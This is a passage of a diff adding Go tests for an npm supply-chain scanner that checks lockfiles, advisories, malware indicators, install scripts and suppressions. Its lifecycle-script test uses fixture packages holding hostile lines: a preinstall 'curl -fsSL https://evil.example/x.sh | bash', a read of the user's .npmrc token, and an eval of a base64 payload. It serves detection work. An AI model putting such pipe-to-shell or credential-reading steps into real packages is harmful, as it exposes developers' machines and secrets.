+func TestParseNpmLockfile(t *testing.T) {
+	dir := t.TempDir()
+
+	// lockfileVersion 3: ネストされたインストールとワークスペースリンク
+	v3 := `{
+  "name": "app", "lockfileVersion": 3,
+  "packages": {
+    "": {"name": "app", "dependencies": {"a": "^1.0.0"}, "devDependencies": {"@scope/b": "^2.0.0"}},
+    "node_modules/a": {"version": "1.0.0", "dependencies": {"c": "^1.0.0"}},
+    "node_modules/a/node_modules/c": {"version": "1.1.0"},
+    "node_modules/@scope/b": {"version": "2.0.0", "dev": true, "dependencies": {"c": "^2.0.0"}},
+    "node_modules/c": {"version": "2.0.0", "dev": true},
+    "node_modules/local": {"resolved": "packages/local", "link": true},
+    "packages/local": {"version": "0.0.1"}
+  }
+}`
+	v3Path := filepath.Join(dir, "v3.json")
+	if err := os.WriteFile(v3Path, []byte(v3), 0644); err != nil {
+		t.Fatalf("Failed to write lockfile: %v", err)
+	}
+
+	lock, err := parseNpmLockfile(v3Path)
+	if err != nil {
+		t.Fatalf("parseNpmLockfile failed: %v", err)
+	}
+	if len(lock.Packages) != 4 {
+		t.Fatalf("Expected 4 registry packages, got %d: %+v", len(lock.Packages), lock.Packages)
+	}
+	if lock.Packages[0].Name != "@scope/b" || !lock.Packages[0].Dev {
+		t.Errorf("Expected scoped dev package first, got %+v", lock.Packages[0])
+	}
+
+	chains := lock.dependencyChains(map[string]bool{"a": true, "@scope/b": true})
+	if got := strings.Join(chains["node_modules/a/node_modules/c"], ">"); got != "a>c" {
+		t.Errorf("Expected chain a>c for nested c, got %s", got)
+	}
+	if got := strings.Join(chains["node_modules/c"], ">"); got != "@scope/b>c" {
+		t.Errorf("Expected chain @scope/b>c for hoisted c, got %s", got)
+	}
+
+	// lockfileVersion 1: ネストされたdependenciesツリー
+	v1 := `{
+  "name": "legacy", "lockfileVersion": 1,
+  "dependencies": {
+    "a": {"version": "1.0.0", "requires": {"c": "^1.0.0"},
+          "dependencies": {"c": {"version": "1.1.0"}}}
+  }
+}`
+	v1Path := filepath.Join(dir, "v1.json")
+	if err := os.WriteFile(v1Path, []byte(v1), 0644); err != nil {
+		t.Fatalf("Failed to write lockfile: %v", err)
+	}
+
+	lock, err = parseNpmLockfile(v1Path)
+	if err != nil {
+		t.Fatalf("parseNpmLockfile failed for v1: %v", err)
+	}
+	if len(lock.Packages) != 2 || lock.Packages[1].Path != "node_modules/a/node_modules/c" {
+		t.Errorf("Unexpected v1 packages: %+v", lock.Packages)
+	}
+}
+
+func TestAdvisoryDatabaseLookup(t *testing.T) {
+	dir := t.TempDir()
+
+	// OSV形式（ディレクトリ）とGitHub Advisory形式（配列）を混在させる
+	osv := `{
+  "id": "GHSA-aaaa-bbbb-cccc", "aliases": ["CVE-2024-0001"], "summary": "Prototype pollution",
+  "severity": [{"type": "CVSS_V3", "score": "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H"}],
+  "affected": [{"package": {"ecosystem": "npm", "name": "c"},
+                "ranges": [{"type": "SEMVER", "events": [{"introduced": "0"}, {"fixed": "1.2.0"},
+                                                         {"introduced": "2.0.0"}, {"fixed": "2.0.1"}]}]}]
+}`
+	github := `[
+  {"ghsa_id": "GHSA-dddd-eeee-ffff", "cve_id": "CVE-2024-0002", "summary": "ReDoS", "severity": "medium",
+   "vulnerabilities": [{"package": {"ecosystem": "npm", "name": "a"},
+                        "vulnerable_version_range": ">= 0.5.0, < 1.0.1", "first_patched_version": "1.0.1"}]},
+  {"ghsa_id": "GHSA-aaaa-bbbb-cccc", "summary": "duplicate of the OSV record", "severity": "low",
+   "vulnerabilities": [{"package": {"ecosystem": "npm", "name": "c"}, "vulnerable_version_range": "< 9.0.0"}]}
+]`
+	if err := os.MkdirAll(filepath.Join(dir, "osv"), 0755); err != nil {
+		t.Fatalf("Failed to create directory: %v", err)
+	}
+	if err := os.WriteFile(filepath.Join(dir, "osv", "GHSA-aaaa-bbbb-cccc.json"), []byte(osv), 0644); err != nil {
+		t.Fatalf("Failed to write advisory: %v", err)
+	}
+	if err := os.WriteFile(filepath.Join(dir, "osv", "github.json"), []byte(github), 0644); err != nil {
+		t.Fatalf("Failed to write advisory: %v", err)
+	}
+
+	db, err := LoadAdvisoryDatabase(filepath.Join(dir, "osv"))
+	if err != nil {
+		t.Fatalf("LoadAdvisoryDatabase failed: %v", err)
+	}
+	if db.Count != 2 {
+		t.Errorf("Expected duplicate GHSA to be loaded once, got %d advisories", db.Count)
+	}
+
+	vulns := db.lookup("c", "2.0.0")
+	if len(vulns) != 1 {
+		t.Fatalf("Expected c@2.0.0 to be affected, got %+v", vulns)
+	}
+	c := vulns[0]
+	if c.Severity != SeverityCritical || c.CVSS != 9.8 || c.FixVersion != "c@2.0.1" || c.CVEs[0] != "CVE-2024-0001" {
+		t.Errorf("Unexpected OSV finding: %+v", c)
+	}
+	if len(db.lookup("c", "1.5.0")) != 0 {
+		t.Errorf("Expected c@1.5.0 to be outside the vulnerable ranges")
+	}
+
+	vulns = db.lookup("a", "1.0.0")
+	if len(vulns) != 1 || vulns[0].Severity != SeverityModerate || vulns[0].GHSA != "GHSA-dddd-eeee-ffff" {
+		t.Errorf("Unexpected GitHub advisory finding: %+v", vulns)
+	}
+	if len(db.lookup("a", "git+https://example.com/a.git")) != 0 {
+		t.Errorf("Expected non-semver versions to be ignored")
+	}
+}
+
+func TestScanForMalware(t *testing.T) {
+	project := t.TempDir()
+	files := map[string]string{
+		"package.json": `{"name": "app", "dependencies": {"chalk": "^5.0.0", "x": "1.0.0"}}`,
+		"package-lock.json": `{"lockfileVersion": 3, "packages": {
+  "": {"dependencies": {"chalk": "^5.0.0", "x": "1.0.0"}},
+  "node_modules/chalk": {"version": "5.6.1"},
+  "node_modules/x": {"version": "1.0.0", "integrity": "sha512-bad sha1-bad"}}}`,
+		"node_modules/chalk/package.json":               `{"name": "chalk", "version": "5.6.1"}`,
+		"node_modules/x/package.json":                   `{"name": "x", "version": "1.0.0"}`,
+		"node_modules/x/node_modules/@s/y/package.json": `{"name": "@s/y", "version": "2.0.0"}`,
+		"node_modules/x/node_modules/@s/y/payload.js":   `steal()`,
+	}
+	for name, content := range files {
+		path := filepath.Join(project, name)
+		if err := os.MkdirAll(filepath.Dir(path), 0755); err != nil {
+			t.Fatalf("Failed to create directory: %v", err)
+		}
+		if err := os.WriteFile(path, []byte(content), 0644); err != nil {
+			t.Fatalf("Failed to write %s: %v", name, err)
+		}
+	}
+
+	digest, err := sha256File(filepath.Join(project, "node_modules/x/node_modules/@s/y/payload.js"))
+	if err != nil {
+		t.Fatalf("sha256File failed: %v", err)
+	}
+	extra := filepath.Join(t.TempDir(), "iocs.json")
+	list := fmt.Sprintf(`{"integrity": [{"hash": "sha1-bad", "reason": "worm"}],
+  "files": [{"sha256": "%s", "reason": "payload"}]}`, strings.ToUpper(digest))
+	if err := os.WriteFile(extra, []byte(list), 0644); err != nil {
+		t.Fatalf("Failed to write IOC list: %v", err)
+	}
+
+	db, err := LoadIOCDatabase([]string{extra})
+	if err != nil {
+		t.Fatalf("LoadIOCDatabase failed: %v", err)
+	}
+
+	result := ScanResult{Vulnerabilities: []Vulnerability{{Package: "lodash", Severity: SeverityCritical}}}
+	scanForMalware(io.Discard, project, npmManager{}, &result, db)
+
+	// chalk@5.6.1はロックファイルとnode_modulesの両方で検出されるが1件にまとめられる
+	var labels []string
+	for _, v := range result.Vulnerabilities {
+		labels = append(labels, v.Severity+":"+v.Label()+"@"+v.Location)
+	}
+	expected := []string{
+		"malware:@s/y@node_modules/x/node_modules/@s/y/payload.js",
+		"malware:chalk@5.6.1@package-lock.json",
+		"malware:x@1.0.0@package-lock.json",
+		"critical:lodash@",
+	}
+	if strings.Join(labels, "\n") != strings.Join(expected, "\n") {
+		t.Errorf("Unexpected findings:\n%s\nexpected:\n%s", strings.Join(labels, "\n"), strings.Join(expected, "\n"))
+	}
+}
+
+func TestAnalyzeLifecycleScripts(t *testing.T) {
+	project := t.TempDir()
+	files := map[string]string{
+		"node_modules/safe/package.json": `{"name": "safe", "version": "1.0.0",
+  "scripts": {"postinstall": "node-gyp rebuild", "test": "curl https://x | sh"}}`,
+		"node_modules/evil/package.json": `{"name": "evil", "version": "6.6.6",
+  "scripts": {"preinstall": "curl -fsSL https://evil.example/x.sh | bash", "postinstall": "node setup"}}`,
+		"node_modules/evil/setup.js": "const cp = require('child_process');\n" +
+			"const token = fs.readFileSync(path.join(os.homedir(), '.npmrc'));\n" +
+			"eval(Buffer.from(payload, 'base64').toString());\n",
+	}
+	for name, content := range files {
+		path := filepath.Join(project, name)
+		if err := os.MkdirAll(filepath.Dir(path), 0755); err != nil {
+			t.Fatalf("Failed to create directory: %v", err)
+		}
+		if err := os.WriteFile(path, []byte(content), 0644); err != nil {
+			t.Fatalf("Failed to write %s: %v", name, err)
+		}
+	}
+
+	result := ScanResult{}
+	analyzeLifecycleScripts(io.Discard, project, &result)
+
+	var got []string
+	for _, v := range result.Vulnerabilities {
+		if v.Type != FindingLifecycleScript || v.Package != "evil" {
+			t.Errorf("Unexpected finding: %+v", v)
+		}
+		got = append(got, v.AdvisoryID+"@"+v.Location)
+	}
+	expected := []string{
+		"script:eval-base64@node_modules/evil/setup.js:3",
+		"script:pipe-to-shell@node_modules/evil/package.json",
+		"script:credential-read@node_modules/evil/setup.js:2",
+		"script:child-process@node_modules/evil/setup.js:1",
+	}
+	if strings.Join(got, "\n") != strings.Join(expected, "\n") {
+		t.Errorf("Unexpected findings:\n%s\nexpected:\n%s", strings.Join(got, "\n"), strings.Join(expected, "\n"))
+	}
+
+	if pipe := result.Vulnerabilities[1]; pipe.Script != "preinstall: curl -fsSL https://evil.example/x.sh | bash" {
+		t.Errorf("Expected exact script text, got %q", pipe.Script)
+	}
+
+	// パッケージ外のファイルは読み込まない
+	if files := scriptInvokedFiles("node ../../steal.js && ./run.sh --flag"); len(files) != 2 {
+		t.Fatalf("Expected 2 invoked files, got %v", files)
+	}
+	if _, _, ok := readPackageFile(filepath.Join(project, "node_modules/evil"), "../../package.json"); ok {
+		t.Errorf("Expected files outside the package to be rejected")
+	}
+
+	// 証跡はマルチバイト文字の途中で切り詰めない
+	evidence := truncateEvidence("x" + strings.Repeat("あ", maxEvidenceLength))
+	if !utf8.ValidString(evidence) || len(evidence) > maxEvidenceLength+len("…") {
+		t.Errorf("Expected valid UTF-8 evidence within %d bytes, got %q", maxEvidenceLength, evidence)
+	}
+}
+
+func TestInstallStrategy(t *testing.T) {
+	for _, strategy := range []string{InstallStrategyInstall, InstallStrategyCI, InstallStrategyCIIgnoreScripts, InstallStrategyLockfileOnly} {
+		if err := validateInstallStrategy(strategy); err != nil {
+			t.Errorf("Expected %q to be valid, got %v", strategy, err)
+		}
+	}
+	if err := validateInstallStrategy("yarn"); err == nil {
+		t.Errorf("Expected unknown strategy to be rejected")
+	}
+	if got := installCommand(npmManager{}, DefaultInstallStrategy); got != "npm ci --ignore-scripts" {
+		t.Errorf("Expected safest default, got %q", got)
+	}
+
+	project := t.TempDir()
+	if err := os.WriteFile(filepath.Join(project, "package.json"), []byte(`{"name": "test"}`), 0644); err != nil {
+		t.Fatalf("Failed to create package.json: %v", err)
+	}
+	nodeModules := filepath.Join(project, "node_modules")
+	if err := os.MkdirAll(nodeModules, 0755); err != nil {
+		t.Fatalf("Failed to create node_modules: %v", err)
+	}
+
+	// ロックファイルがない場合、npm ciはnode_modulesを削除する前に失敗する
+	for _, strategy := range []string{InstallStrategyCI, InstallStrategyCIIgnoreScripts} {
+		err := checkInstallStrategy(project, npmManager{}, strategy)
+		if err == nil || !strings.Contains(err.Error(), InstallStrategyLockfileOnly) {
+			t.Errorf("Expected %s to require a lockfile, got %v", strategy, err)
+		}
+	}
+	for _, strategy := range []string{InstallStrategyInstall, InstallStrategyLockfileOnly} {
+		if err := checkInstallStrategy(project, npmManager{}, strategy); err != nil {
+			t.Errorf("Expected %s to work without a lockfile, got %v", strategy, err)
+		}
+	}
+
+	result := ScanResult{}
+	scanProjectInPlace(context.Background(), io.Discard, project, npmManager{}, &result, Options{})
+	if result.Status != StatusFailed || result.InstallStrategy != DefaultInstallStrategy {
+		t.Errorf("Expected failed scan recording %s, got %+v", DefaultInstallStrategy, result)
+	}
+	if _, err := os.Stat(nodeModules); err != nil {
+		t.Errorf("Expected node_modules to be kept when the install strategy cannot run")
+	}
+
+	if err := os.WriteFile(filepath.Join(project, "package-lock.json"), []byte(`{}`), 0644); err != nil {
+		t.Fatalf("Failed to create package-lock.json: %v", err)
+	}
+	if err := checkInstallStrategy(project, npmManager{}, InstallStrategyCIIgnoreScripts); err != nil {
+		t.Errorf("Expected lockfile to satisfy npm ci, got %v", err)
+	}
+}
+
+func TestDetectPackageManager(t *testing.T) {
+	cases := []struct {
+		files    map[string]string
+		expected string
+	}{
+		{map[string]string{}, PackageManagerNpm},
+		{map[string]string{"package-lock.json": "{}"}, PackageManagerNpm},
+		{map[string]string{"pnpm-lock.yaml": "lockfileVersion: '9.0'\n"}, PackageManagerPnpm},
+		{map[string]string{"yarn.lock": "# yarn lockfile v1\n"}, PackageManagerYarnClassic},
+		{map[string]string{"yarn.lock": "__metadata:\n  version: 8\n"}, PackageManagerYarnBerry},
+		{map[string]string{"bun.lockb": ""}, PackageManagerBun},
+		// 移行途中で残ったnpmのロックファイルより他のロックファイルを優先する
+		{map[string]string{"package-lock.json": "{}", "yarn.lock": "# yarn lockfile v1\n"}, PackageManagerYarnClassic},
+		// packageManagerフィールドはロックファイルより優先する
+		{map[string]string{"package.json": `{"packageManager": "yarn@1.22.19"}`, "pnpm-lock.yaml": ""}, PackageManagerYarnClassic},
+		{map[string]string{"package.json": `{"packageManager": "yarn@4.1.0+sha224.abc"}`}, PackageManagerYarnBerry},
+		{map[string]string{"package.json": `{"packageManager": "pnpm@9.1.0"}`}, PackageManagerPnpm},
+	}
+
+	for i, tc := range cases {
+		dir := t.TempDir()
+		if _, ok := tc.files["package.json"]; !ok {
+			tc.files["package.json"] = `{"name": "test"}`
+		}
+		for name, content := range tc.files {
+			if err := os.WriteFile(filepath.Join(dir, name), []byte(content), 0644); err != nil {
+				t.Fatalf("Failed to write %s: %v", name, err)
+			}
+		}
+		if got := detectPackageManager(dir).Name(); got != tc.expected {
+			t.Errorf("Case %d: expected %s, got %s", i, tc.expected, got)
+		}
+	}
+
+	if got := installCommand(yarnBerryManager{}, DefaultInstallStrategy); got != "yarn install --immutable --mode=skip-build" {
+		t.Errorf("Unexpected yarn berry install command: %s", got)
+	}
+	if _, err := (yarnClassicManager{}).InstallArgs(InstallStrategyLockfileOnly); err == nil {
+		t.Errorf("Expected yarn classic to reject package-lock-only")
+	}
+}
+
+func TestParseAlternativeLockfiles(t *testing.T) {
+	lockfiles := map[string]string{
+		"yarn-classic/yarn.lock": `# THIS IS AN AUTOGENERATED FILE. DO NOT EDIT THIS FILE DIRECTLY.
+# yarn lockfile v1
+
+
+"@scope/b@^2.0.0":
+  version "2.0.0"
+  resolved "https://registry.yarnpkg.com/@scope/b/-/b-2.0.0.tgz#abc"
+  integrity sha512-bbb==
+  dependencies:
+    c "^1.0.0"
+
+a@^1.0.0, a@^1.0.1:
+  version "1.0.1"
+  resolved "https://registry.yarnpkg.com/a/-/a-1.0.1.tgz#def"
+  integrity sha512-aaa==
+  dependencies:
+    c "^2.0.0"
+
+c@^1.0.0:
+  version "1.1.0"
+
+c@^2.0.0:
+  version "2.0.0"
+`,
+		"yarn-classic/package.json": `{"dependencies": {"a": "^1.0.0", "@scope/b": "^2.0.0"}}`,
+		"yarn-berry/yarn.lock": `# This file is generated by running "yarn install" inside your project.
+
+__metadata:
+  version: 8
+  cacheKey: 10c0
+
+"@scope/b@npm:^2.0.0":
+  version: 2.0.0
+  resolution: "@scope/b@npm:2.0.0"
+  dependencies:
+    c: "npm:^1.0.0"
+  languageName: node
+  linkType: hard
+
+"a@npm:^1.0.0":
+  version: 1.0.1
+  resolution: "a@npm:1.0.1"
+  dependencies:
+    c: ^2.0.0
+  languageName: node
+  linkType: hard
+
+"app@workspace:.":
+  version: 0.0.0-use.local
+  resolution: "app@workspace:."
+  dependencies:
+    "@scope/b": "npm:^2.0.0"
+    a: "npm:^1.0.0"
+  languageName: unknown
+  linkType: soft
+
+"c@npm:^1.0.0":
+  version: 1.1.0
+  resolution: "c@npm:1.1.0"
+  languageName: node
+  linkType: hard
+
+"c@npm:^2.0.0":
+  version: 2.0.0
+  resolution: "c@npm:2.0.0"
+  languageName: node
+  linkType: hard
+`,
+		"pnpm9/pnpm-lock.yaml": `lockfileVersion: '9.0'
+
+importers:
+  .:
+    dependencies:
+      a:
+        specifier: ^1.0.0
+        version: 1.0.1
+    devDependencies:
+      '@scope/b':
+        specifier: ^2.0.0
+        version: 2.0.0(react@18.2.0)
+
+packages:
+  '@scope/b@2.0.0':
+    resolution: {integrity: sha512-bbb==}
+  a@1.0.1:
+    resolution: {integrity: sha512-aaa==}
+  c@1.1.0:
+    resolution: {integrity: sha512-c11==}
+  c@2.0.0:
+    resolution: {integrity: sha512-c20==}
+  react@18.2.0:
+    resolution: {integrity: sha512-rrr==}
+
+snapshots:
+  '@scope/b@2.0.0(react@18.2.0)':
+    dependencies:
+      c: 1.1.0
+      react: 18.2.0
+  a@1.0.1:
+    dependencies:
+      c: 2.0.0
+  c@1.1.0: {}
+  c@2.0.0: {}
+  react@18.2.0: {}
+`,
+		"pnpm6/pnpm-lock.yaml": `lockfileVersion: '6.0'
+
+dependencies:
+  a:
+    specifier: ^1.0.0
+    version: 1.0.1
+  '@scope/b':
+    specifier: ^2.0.0
+    version: 2.0.0
+
+packages:
+  /@scope/b@2.0.0:
+    resolution: {integrity: sha512-bbb==}
+    dependencies:
+      c: 1.1.0
+    dev: false
+  /a@1.0.1:
+    resolution: {integrity: sha512-aaa==}
+    dependencies:
+      c: 2.0.0
+    dev: false
+  /c@1.1.0:
+    resolution: {integrity: sha512-c11==}
+    dev: false
+  /c@2.0.0:
+    resolution: {integrity: sha512-c20==}
+    dev: false
+`,
+		"bun/bun.lock": `{
+  "lockfileVersion": 1,
+  "workspaces": {
+    "": {
+      "name": "app",
+      "dependencies": {
+        "@scope/b": "^2.0.0",
+        "a": "^1.0.0",
+      },
+    },
+  },
+  "packages": {
+    "@scope/b": ["@scope/b@2.0.0", "", { "dependencies": { "c": "^1.0.0" } }, "sha512-bbb=="],
+    "@scope/b/c": ["c@1.1.0", "", {}, "sha512-c11=="],
+    "a": ["a@1.0.1", "", { "dependencies": { "c": "^2.0.0" } }, "sha512-aaa=="],
+    "c": ["c@2.0.0", "", {}, "sha512-c20=="],
+  }
+}
+`,
+	}
+
+	dir := t.TempDir()
+	for name, content := range lockfiles {
+		path := filepath.Join(dir, name)
+		if err := os.MkdirAll(filepath.Dir(path), 0755); err != nil {
+			t.Fatalf("Failed to create directory: %v", err)
+		}
+		if err := os.WriteFile(path, []byte(content), 0644); err != nil {
+			t.Fatalf("Failed to write %s: %v", name, err)
+		}
+	}
+
+	// どの形式でも、cの2つのバージョンがそれぞれの依存元から辿れること
+	cases := []struct {
+		pm   packageManager
+		file string
+	}{
+		{yarnClassicManager{}, "yarn-classic/yarn.lock"},
+		{yarnBerryManager{}, "yarn-berry/yarn.lock"},
+		{pnpmManager{}, "pnpm9/pnpm-lock.yaml"},
+		{pnpmManager{}, "pnpm6/pnpm-lock.yaml"},
+		{bunManager{}, "bun/bun.lock"},
+	}
+	for _, tc := range cases {
+		lock, err := tc.pm.ParseLockfile(filepath.Join(dir, tc.file))
+		if err != nil {
+			t.Fatalf("%s: ParseLockfile failed: %v", tc.file, err)
+		}
+
+		direct := projectDirectDependencies(filepath.Dir(lock.Path), lock)
+		chains := lock.dependencyChains(direct)
+		got := map[string]string{}
+		for i := range lock.Packages {
+			pkg := &lock.Packages[i]
+			if pkg.Name == "react" {
+				continue
+			}
+			entry := pkg.Version + " " + strings.Join(chains[pkg.Path], ">")
+			if lock.isDirect(pkg, direct) {
+				entry += " direct"
+			}
+			got[pkg.Name+"@"+pkg.Version] = entry
+		}
+
+		expected := map[string]string{
+			"@scope/b@2.0.0": "2.0.0 @scope/b direct",
+			"a@1.0.1":        "1.0.1 a direct",
+			"c@1.1.0":        "1.1.0 @scope/b>c",
+			"c@2.0.0":        "2.0.0 a>c",
+		}
+		if fmt.Sprint(got) != fmt.Sprint(expected) {
+			t.Errorf("%s: unexpected packages\n got: %v\nwant: %v", tc.file, got, expected)
+		}
+	}
+
+	if _, err := (bunManager{}).ParseLockfile(filepath.Join(dir, "bun.lockb")); err == nil ||
+		!strings.Contains(err.Error(), "--save-text-lockfile") {
+		t.Errorf("Expected bun.lockb to be rejected with a hint, got %v", err)
+	}
+}
+
+func TestParseAlternativeAudits(t *testing.T) {
+	yarnClassic := `{"type":"auditAdvisory","data":{"resolution":{"id":1523,"path":"a>lodash","dev":false},"advisory":{"id":1523,"module_name":"lodash","severity":"high","title":"Prototype Pollution","url":"https://github.com/advisories/GHSA-p6mc-m468-83gw","vulnerable_versions":"<4.17.19","patched_versions":">=4.17.19","findings":[{"version":"4.17.15","paths":["a>lodash"]}]}}}
+{"type":"auditSummary","data":{"vulnerabilities":{"info":0,"low":0,"moderate":0,"high":1,"critical":0}}}`
+	vulns, err := (yarnClassicManager{}).ParseAudit(yarnClassic, "")
+	if err != nil {
+		t.Fatalf("yarn classic ParseAudit failed: %v", err)
+	}
+	if len(vulns) != 1 || vulns[0].Version != "4.17.15" || vulns[0].GHSA != "GHSA-p6mc-m468-83gw" ||
+		strings.Join(vulns[0].Via, ">") != "a>lodash" {
+		t.Errorf("Unexpected yarn classic vulnerabilities: %+v", vulns)
+	}
+	if _, err := (yarnClassicManager{}).ParseAudit(`{"type":"error","data":"Missing lockfile"}`, ""); err == nil {
+		t.Errorf("Expected yarn audit error to be reported")
+	}
+
+	yarnBerry := `{"value":"lodash","children":{"ID":1106913,"Issue":"Prototype Pollution in lodash","URL":"https://github.com/advisories/GHSA-p6mc-m468-83gw","Severity":"high","Vulnerable Versions":"<4.17.19","Tree Versions":["4.17.15","4.17.11"],"Dependents":["app@workspace:."]}}`
+	vulns, err = (yarnBerryManager{}).ParseAudit(yarnBerry, "")
+	if err != nil {
+		t.Fatalf("yarn berry ParseAudit failed: %v", err)
+	}
+	if len(vulns) != 2 || vulns[0].Severity != SeverityHigh || vulns[0].AdvisoryID != "1106913" {
+		t.Errorf("Unexpected yarn berry vulnerabilities: %+v", vulns)
+	}
+	if vulns, err := (yarnBerryManager{}).ParseAudit("", ""); err != nil || len(vulns) != 0 {
+		t.Errorf("Expected empty yarn berry output to mean no vulnerabilities, got %v %v", vulns, err)
+	}
+
+	bun := `{"lodash":[{"id":1106913,"url":"https://github.com/advisories/GHSA-p6mc-m468-83gw","title":"Prototype Pollution in lodash","severity":"high","vulnerable_versions":"<4.17.19","cvss":{"score":7.4,"vectorString":"CVSS:3.1/AV:N/AC:H/PR:N/UI:N/S:U/C:H/I:H/A:N"}}]}`
+	vulns, err = (bunManager{}).ParseAudit(bun, "")
+	if err != nil {
+		t.Fatalf("bun ParseAudit failed: %v", err)
+	}
+	if len(vulns) != 1 || vulns[0].Package != "lodash" || vulns[0].CVSS != 7.4 {
+		t.Errorf("Unexpected bun vulnerabilities: %+v", vulns)
+	}
+
+	pnpmError := `{"error": {"code": "ERR_PNPM_AUDIT_NO_LOCKFILE", "message": "No pnpm-lock.yaml found"}}`
+	if _, err := (pnpmManager{}).ParseAudit(pnpmError, ""); err == nil || !strings.Contains(err.Error(), "No pnpm-lock.yaml") {
+		t.Errorf("Expected pnpm audit error message, got %v", err)
+	}
+}
+
+func TestFindNpmProjectsDiscoveryOptions(t *testing.T) {
+	tempDir := t.TempDir()
+	files := map[string]string{
+		"app/package.json":                `{}`,
+		"app/dist/package.json":           `{}`,
+		"examples/demo/package.json":      `{}`,
+		"libs/a/package.json":             `{}`,
+		"libs/a/deep/nested/package.json": `{}`,
+		"libs/generated/package.json":     `{}`,
+		"libs/keep/package.json":          `{}`,
+		"tmp/package.json":                `{}`,
+		".gitignore":                      "tmp/\n",
+		"libs/.npmscanignore":             "# 生成物\ngenerated\nk*\n!keep\n",
+	}
+	for name, content := range files {
+		path := filepath.Join(tempDir, filepath.FromSlash(name))
+		if err := os.MkdirAll(filepath.Dir(path), 0755); err != nil {
+			t.Fatalf("Failed to create directory: %v", err)
+		}
+		if err := os.WriteFile(path, []byte(content), 0644); err != nil {
+			t.Fatalf("Failed to write %s: %v", name, err)
+		}
+	}
+
+	cases := []struct {
+		opts     DiscoveryOptions
+		expected []string
+	}{
+		{DiscoveryOptions{},
+			[]string{"app", "libs/a/deep/nested", "libs/a", "libs/keep", "tmp"}},
+		{DiscoveryOptions{Gitignore: true},
+			[]string{"app", "libs/a/deep/nested", "libs/a", "libs/keep"}},
+		{DiscoveryOptions{MaxDepth: 2, Exclude: []string{"app"}},
+			[]string{"libs/a", "libs/keep", "tmp"}},
+		{DiscoveryOptions{Include: []string{"libs/**"}, NoDefaultExcludes: true},
+			[]string{"libs/a/deep/nested", "libs/a", "libs/keep"}},
+		{DiscoveryOptions{NoDefaultExcludes: true, Exclude: []string{"libs", "tmp"}},
+			[]string{"app/dist", "app", "examples/demo"}},
+	}
+
+	for i, tc := range cases {
+		projects, err := Discover(context.Background(), tempDir, tc.opts)
+		if err != nil {
+			t.Fatalf("Case %d: Discover failed: %v", i, err)
+		}
+		var got []string
+		for _, project := range projects {
+			rel, _ := filepath.Rel(tempDir, project.Dir)
+			got = append(got, filepath.ToSlash(rel))
+		}
+		if strings.Join(got, ",") != strings.Join(tc.expected, ",") {
+			t.Errorf("Case %d: expected %v, got %v", i, tc.expected, got)
+		}
+	}
+
+	if _, err := Discover(context.Background(), tempDir, DiscoveryOptions{Exclude: []string{"[a-"}}); err == nil {
+		t.Errorf("Expected an error for an invalid glob")
+	}
+}
+
+func TestSuppressions(t *testing.T) {
+	dir := t.TempDir()
+	path := filepath.Join(dir, "suppressions.yaml")
+	content := `suppressions:
+  - id: GHSA-aaaa-bbbb-cccc
+    reason: dev-only ReDoS, input is never user controlled
+    owner: team-web
+    expires: 2030-01-31
+  - package: lodash
+    versions: "<4.17.21"
+    project: apps/*
+    reason: patched upstream soon
+    owner: alice
+    expires: "2030-06-30"
+  - id: CVE-2020-0001
+    reason: accepted last year
+    owner: bob
+    expires: 2024-12-31
+  - package: evil-pkg
+    reason: never hide malware
+    owner: bob
+    expires: 2030-01-01
+`
+	if err := os.WriteFile(path, []byte(content), 0644); err != nil {
+		t.Fatalf("Failed to write suppressions: %v", err)
+	}
+
+	list, err := LoadSuppressions(path)
+	if err != nil {
+		t.Fatalf("LoadSuppressions failed: %v", err)
+	}
+	now := time.Date(2025, 6, 1, 12, 0, 0, 0, time.Local)
+	if expired := list.Expired(now); len(expired) != 1 || expired[0].Owner != "bob" {
+		t.Errorf("Expected the CVE-2020-0001 entry to be expired, got %+v", expired)
+	}
+
+	result := ScanResult{
+		ProjectPath: filepath.Join(dir, "apps", "web"),
+		Vulnerabilities: []Vulnerability{
+			{Severity: SeverityHigh, Package: "minimatch", GHSA: "GHSA-aaaa-bbbb-cccc"},
+			{Severity: SeverityModerate, Package: "lodash", Version: "4.17.20"},
+			{Severity: SeverityModerate, Package: "lodash", Version: "4.17.21"},
+			{Severity: SeverityCritical, Package: "old", CVEs: []string{"CVE-2020-0001"}},
+			{Severity: SeverityMalware, Type: FindingMalware, Package: "evil-pkg", Version: "1.0.0"},
+		},
+	}
+	list.apply(&result, now)
+
+	if len(result.Suppressed) != 2 || result.Suppressed[0].Suppression.Owner != "team-web" ||
+		result.Suppressed[1].Version != "4.17.20" {
+		t.Errorf("Unexpected suppressed findings: %+v", result.Suppressed)
+	}
+	if len(result.Vulnerabilities) != 3 {
+		t.Fatalf("Expected 3 active findings, got %+v", result.Vulnerabilities)
+	}
+	if s := result.Vulnerabilities[1].Suppression; s == nil || !s.Expired {
+		t.Errorf("Expected the expired suppression to be flagged on the finding, got %+v", s)
+	}
+	if result.Vulnerabilities[2].Suppression != nil {
+		t.Errorf("Malware findings must never be suppressed")
+	}
+
+	// 抑制された脆弱性は--fail-onの判定に含まれない
+	report := &Report{Results: []ScanResult{result}}
+	if got := report.CountFindingsAtOrAbove(SeverityHigh); got != 2 {
+		t.Errorf("Expected 2 gated findings at or above high, got %d", got)
+	}
+	if suppressed, expired := report.CountSuppressions(); suppressed != 2 || expired != 1 {
+		t.Errorf("Expected 2 suppressed and 1 expired, got %d and %d", suppressed, expired)
+	}
+
+	// 理由・オーナー・期限は必須
+	invalid := "suppressions:\n  - id: GHSA-x\n    owner: alice\n  - package: a\n    reason: r\n    owner: o\n    expires: 31/01/2030\n"
+	if err := os.WriteFile(path, []byte(invalid), 0644); err != nil {
+		t.Fatalf("Failed to write suppressions: %v", err)
+	}
+	_, err = LoadSuppressions(path)
+	if err == nil || !strings.Contains(err.Error(), "entry 1: missing reason, expires") ||
+		!strings.Contains(err.Error(), "entry 2: invalid expires") {
+		t.Errorf("Expected validation errors for both entries, got %v", err)
+	}
+}
+
+func TestBaseline(t *testing.T) {
+	dir := t.TempDir()
+	web := filepath.Join(dir, "apps", "web")
+	api := filepath.Join(dir, "apps", "api")
+	lodash := Vulnerability{Severity: SeverityHigh, Package: "lodash", Version: "4.17.20", GHSA: "GHSA-aaaa"}
+	minimist := Vulnerability{Severity: SeverityCritical, Package: "minimist", Version: "1.2.0", CVEs: []string{"CVE-2021-1"}}
+	malware := Vulnerability{Severity: SeverityMalware, Type: FindingMalware, Package: "evil-pkg", Version: "1.0.0"}
+
+	scanned := func(project string, vulns ...Vulnerability) ScanResult {
+		result := ScanResult{
+			ProjectPath:     project,
+			Status:          StatusSuccess,
